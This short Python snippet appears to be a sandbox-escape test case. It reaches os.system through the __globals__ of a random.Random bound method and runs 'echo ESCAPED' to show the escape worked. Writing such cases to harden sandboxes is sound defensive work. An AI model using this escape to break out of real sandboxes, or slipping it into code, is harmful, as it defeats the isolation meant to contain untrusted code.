# kind: function-globals
# effect: prints ESCAPED
import random

chooser = random.Random(1).choices
chooser.__func__.__globals__["_os"].system("echo ESCAPED")
